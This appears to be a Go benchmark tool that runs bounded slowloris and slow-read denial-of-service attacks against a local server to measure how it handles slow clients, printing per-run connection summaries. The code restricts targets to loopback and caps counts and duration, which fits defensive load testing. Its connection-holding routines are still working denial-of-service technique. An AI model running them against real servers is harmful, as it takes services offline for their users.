// Command attack is the slow-client bench's attacker (bench/slowloris/run.sh):
// for -duration it keeps -slowloris connections that send a request head a
// byte every -interval and never finish it (slowloris), and -slowread
// connections that send a whole request for -path and read the answer a
// byte every -interval, with a small receive buffer so that the kernel does
// not read ahead for them (slow read). A connection that the server ends is
// counted, with how it ended and how long it lived, and opened again, so
// that the attack stays at full strength. At the end it prints what became
// of the connections, as lines the script parses:
//
//	slowloris opened=1000 held=1000 closed=0 life_p50=- life_max=- ends=-
//	slowread opened=100 held=100 closed=0 life_p50=- life_max=- ends=- bytes=2900
//
// It only attacks loopback addresses, and its counts and duration are
// bounded.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"os"
	"os/signal"
	"slices"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// Bounds on what one run may do, so that a typo cannot turn the bench into
// a real attack on the machine.
const (
	maxSlowloris = 5000
	maxSlowread  = 1000
	maxDuration  = 5 * time.Minute
)

func main() {
	addr := flag.String("addr", "", "host:port to attack (loopback only)")
	nLoris := flag.Int("slowloris", 1000, "connections that send a head a byte per interval")
	nRead := flag.Int("slowread", 100, "connections that read the answer a byte per interval")
	path := flag.String("path", "/big", "target of the slow readers' request")
	interval := flag.Duration("interval", time.Second, "time between two bytes")
	duration := flag.Duration("duration", 30*time.Second, "how long the attack lasts")
	ramp := flag.Duration("ramp", time.Second, "time over which the connections are first opened")
	rcvbuf := flag.Int("rcvbuf", 4096, "slow readers' SO_RCVBUF in bytes")
	every := flag.Duration("every", 5*time.Second, "how often to print how many connections are open (0: never)")
	flag.Parse()
	if err := check(*addr, *nLoris, *nRead, *duration, *interval); err != nil {
		log.Fatalf("attack: %v", err)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	ctx, cancel := context.WithTimeout(ctx, *duration)
	defer cancel()

	loris := &tally{name: "slowloris"}
	reader := &tally{name: "slowread"}
	a := attacker{addr: *addr, interval: *interval, rcvbuf: *rcvbuf}
	req := []byte("GET " + *path + " HTTP/1.1\r\nHost: " + *addr + "\r\nUser-Agent: slowread\r\n\r\n")

	var wg sync.WaitGroup
	total := *nLoris + *nRead
	for i := range total {
		// Spread the first dials over the ramp, so that the listen queue
		// never overflows, and the slow readers evenly among them.
		at := time.Duration(0)
		if total > 1 {
			at = *ramp * time.Duration(i) / time.Duration(total-1)
		}
		slowReader := (i+1)*(*nRead)/total > i*(*nRead)/total
		wg.Go(func() {
			if !sleep(ctx, at) {
				return
			}
			if slowReader {
				a.keep(ctx, reader, func(c net.Conn, t *tally) string { return a.slowRead(ctx, c, t, req) })
				return
			}
			a.keep(ctx, loris, func(c net.Conn, _ *tally) string { return a.slowloris(ctx, c) })
		})
	}
	if *every > 0 {
		wg.Go(func() { progress(ctx, *every, loris, reader) })
	}
	wg.Wait()
	fmt.Println(loris.summary())
	fmt.Println(reader.summary())
}

// check refuses an address off loopback and counts or durations beyond the
// bounds.
func check(addr string, nLoris, nRead int, duration, interval time.Duration) error {
	host, _, err := net.SplitHostPort(addr)
	if err != nil {
		return fmt.Errorf("-addr %q: %w (want 127.0.0.1:PORT)", addr, err)
	}
	ips, err := net.LookupIP(host)
	if err != nil {
		return fmt.Errorf("-addr %q: %w", addr, err)
	}
	for _, ip := range ips {
		if !ip.IsLoopback() {
			return fmt.Errorf("-addr %q is not a loopback address; this attacker only attacks loopback", addr)
		}
	}
	switch {
	case nLoris < 0 || nLoris > maxSlowloris:
		return fmt.Errorf("-slowloris %d: want 0 to %d", nLoris, maxSlowloris)
	case nRead < 0 || nRead > maxSlowread:
		return fmt.Errorf("-slowread %d: want 0 to %d", nRead, maxSlowread)
	case duration <= 0 || duration > maxDuration:
		return fmt.Errorf("-duration %v: want above 0 and at most %v", duration, maxDuration)
	case interval < 10*time.Millisecond:
		return fmt.Errorf("-interval %v: want at least 10ms", interval)
	}
	return nil
}

// attacker opens the connections.
type attacker struct {
	addr     string
	interval time.Duration
	rcvbuf   int // for slow readers; 0 leaves the kernel's default
}

// keep holds one connection of t's kind open until ctx is done: run uses
// it and returns how the server ended it ("" when ctx ended it first); a
// connection the server ended is counted and opened again.
func (a attacker) keep(ctx context.Context, t *tally, run func(net.Conn, *tally) string) {
	for ctx.Err() == nil {
		d := net.Dialer{}
		if t.name == "slowread" && a.rcvbuf > 0 {
			d.Control = func(_, _ string, rc syscall.RawConn) error {
				var serr error
				err := rc.Control(func(fd uintptr) {
					serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, a.rcvbuf)
				})
				return errors.Join(err, serr)
			}
		}
		c, err := d.DialContext(ctx, "tcp", a.addr)
		if err != nil {
			if ctx.Err() == nil {
				t.dialFailed(err)
				sleep(ctx, a.interval)
			}
			continue
		}
		start := time.Now()
		t.opened()
		end := run(c, t)
		_ = c.Close()
		t.ended(end, time.Since(start))
	}
}

// slowloris sends a request head that never ends (a header line after
// another), a byte per interval, until the server closes the connection
// or answers, or ctx is done.
func (a attacker) slowloris(ctx context.Context, c net.Conn) string {
	const head = "GET /slowloris HTTP/1.1\r\nHost: 127.0.0.1\r\n"
	const line = "X-Slow: 1\r\n"
	byteAt := func(i int) byte {
		if i < len(head) {
			return head[i]
		}
		return line[(i-len(head))%len(line)]
	}
	// A reader notices the server's close or answer as it happens, not at
	// the next write.
	ended := make(chan string, 1)
	go func() { ended <- serverEnd(c) }()
	tick := time.NewTicker(a.interval)
	defer tick.Stop()
	end := ""
	for i := 0; ; i++ {
		if _, err := c.Write([]byte{byteAt(i)}); err != nil {
			end = "write " + errName(err)
			break
		}
		select {
		case <-ctx.Done():
		case end = <-ended:
			return end
		case <-tick.C:
			continue
		}
		break
	}
	_ = c.Close()
	if e := <-ended; end == "" && ctx.Err() == nil {
		end = e
	}
	return end
}

// serverEnd reads until the server answers or closes c, and says which:
// "408" (the answer's status), "EOF", "reset" or another error's name;
// "" when c was closed on this side.
func serverEnd(c net.Conn) string {
	buf := make([]byte, 64)
	n, err := io.ReadAtLeast(c, buf, len("HTTP/1.1 408"))
	switch {
	case n >= len("HTTP/1.1 408") && strings.HasPrefix(string(buf), "HTTP/"):
		return string(buf[9:12])
	case errors.Is(err, net.ErrClosed):
		return ""
	case n > 0:
		return "partial answer"
	}
	return errName(err)
}

// slowRead sends req whole, then reads the answer a byte per interval
// until the server closes the connection or ctx is done.
func (a attacker) slowRead(ctx context.Context, c net.Conn, t *tally, req []byte) string {
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	if _, err := c.Write(req); err != nil {
		return "write " + errName(err)
	}
	tick := time.NewTicker(a.interval)
	defer tick.Stop()
	var status [12]byte
	var b [1]byte
	for n := 0; ; n++ {
		if _, err := io.ReadFull(c, b[:]); err != nil {
			if ctx.Err() != nil {
				return ""
			}
			if n >= len(status) {
				return fmt.Sprintf("%s after %s, %d bytes", errName(err), status[9:], n)
			}
			return fmt.Sprintf("%s after %d bytes", errName(err), n)
		}
		if n < len(status) {
			status[n] = b[0]
		}
		t.bytes.Add(1)
		select {
		case <-ctx.Done():
			return ""
		case <-tick.C:
		}
	}
}

// errName is a short name for how a connection failed.
func errName(err error) string {
	switch {
	case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
		return "EOF"
	case errors.Is(err, syscall.ECONNRESET):
		return "reset"
	case errors.Is(err, syscall.EPIPE):
		return "broken pipe"
	case errors.Is(err, net.ErrClosed):
		return "closed here"
	}
	return err.Error()
}

// tally counts one kind of connection.
type tally struct {
	name  string
	open  atomic.Int64
	bytes atomic.Int64 // slow readers: bytes read

	mu        sync.Mutex
	dials     int            // connections opened
	dialErrs  map[string]int // failed dials by error
	ends      map[string]int // connections the server ended, by how
	lifetimes []time.Duration
	held      int // open until the attack ended
}

func (t *tally) opened() {
	t.open.Add(1)
	t.mu.Lock()
	t.dials++
	t.mu.Unlock()
}

func (t *tally) dialFailed(err error) {
	t.mu.Lock()
	if t.dialErrs == nil {
		t.dialErrs = map[string]int{}
	}
	t.dialErrs[errName(err)]++
	t.mu.Unlock()
}

// ended counts a connection that closed after lived: how is "" when the
// attack ended it.
func (t *tally) ended(how string, lived time.Duration) {
	t.open.Add(-1)
	t.mu.Lock()
	defer t.mu.Unlock()
	if how == "" {
		t.held++
		return
	}
	if t.ends == nil {
		t.ends = map[string]int{}
	}
	t.ends[how]++
	t.lifetimes = append(t.lifetimes, lived)
}

// summary is the line run.sh parses: connections opened, held to the end,
// closed by the server with their median and longest lifetime and how they
// ended.
func (t *tally) summary() string {
	t.mu.Lock()
	defer t.mu.Unlock()
	p50, longest := "-", "-"
	if n := len(t.lifetimes); n > 0 {
		slices.Sort(t.lifetimes)
		p50 = t.lifetimes[n/2].Round(100 * time.Millisecond).String()
		longest = t.lifetimes[n-1].Round(100 * time.Millisecond).String()
	}
	s := fmt.Sprintf("%s opened=%d held=%d closed=%d life_p50=%s life_max=%s ends=%s",
		t.name, t.dials, t.held, len(t.lifetimes), p50, longest, counts(t.ends))
	if len(t.dialErrs) > 0 {
		s += " dial_errors=" + counts(t.dialErrs)
	}
	if t.name == "slowread" {
		s += fmt.Sprintf(" bytes=%d", t.bytes.Load())
	}
	return s
}

// counts writes m as "a:1,b:2" (spaces made underscores), "-" when empty.
func counts(m map[string]int) string {
	if len(m) == 0 {
		return "-"
	}
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	parts := make([]string, len(keys))
	for i, k := range keys {
		parts[i] = fmt.Sprintf("%s:%d", strings.ReplaceAll(k, " ", "_"), m[k])
	}
	return strings.Join(parts, ",")
}

// progress prints how many connections of each kind are open, every
// interval, to stderr.
func progress(ctx context.Context, every time.Duration, ts ...*tally) {
	start := time.Now()
	tick := time.NewTicker(every)
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		line := fmt.Sprintf("attack t=%2.0fs", time.Since(start).Seconds())
		for _, t := range ts {
			t.mu.Lock()
			line += fmt.Sprintf("  %s open=%d closed_by_server=%d", t.name, t.open.Load(), len(t.lifetimes))
			t.mu.Unlock()
		}
		fmt.Fprintln(os.Stderr, line)
	}
}

// sleep waits d or until ctx is done, and reports whether d passed.
func sleep(ctx context.Context, d time.Duration) bool {
	if d <= 0 {
		return ctx.Err() == nil
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return false
	case <-t.C:
		return true
	}
}
